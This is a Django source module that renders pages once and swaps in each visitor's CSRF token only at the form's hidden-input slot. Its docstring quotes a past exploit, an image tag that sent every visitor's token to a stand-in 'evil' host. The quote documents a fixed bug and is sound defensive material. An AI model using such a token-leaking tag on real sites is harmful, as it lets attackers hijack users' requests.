"""Pages rendered once and served many times, with the one per-request value (the CSRF token)
filled in at response time.

Render with `CSRF_MARKER` as the template's `csrf_token` (`render_shared`), keep the string
anywhere (Redis, a dict), and answer with `respond(request, html)`: the visitor gets their own
token and Django's CSRF cookie, exactly as with an ordinary render.

The token goes only into the template's own slot, the hidden input `{% csrf_token %}` writes
(`CSRF_SLOT`), never wherever the marker's text appears: an article body may quote it (an allowed
`<img src="https://evil/?t=<marker>">` received every visitor's token, staff included: issue 23).
A body cannot spell the slot itself: the sanitiser keeps no `<input>`, and it writes attribute
values with their quotes escaped.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

from django.http import HttpRequest, HttpResponse
from django.middleware.csrf import get_token
from django.template.loader import render_to_string

CSRF_MARKER = "__csrf_token_placeholder_7f3a__"
CSRF_SLOT = f'name="csrfmiddlewaretoken" value="{CSRF_MARKER}"'


def render_shared(template: str, context: Mapping[str, Any], *, request: HttpRequest) -> str:
    """The page as every visitor sees it, with a marker where the CSRF token goes."""
    return render_to_string(template, {**context, "csrf_token": CSRF_MARKER}, request=request)


def respond(request: HttpRequest, html: str) -> HttpResponse:
    slot = f'name="csrfmiddlewaretoken" value="{get_token(request)}"'
    return HttpResponse(html.replace(CSRF_SLOT, slot))
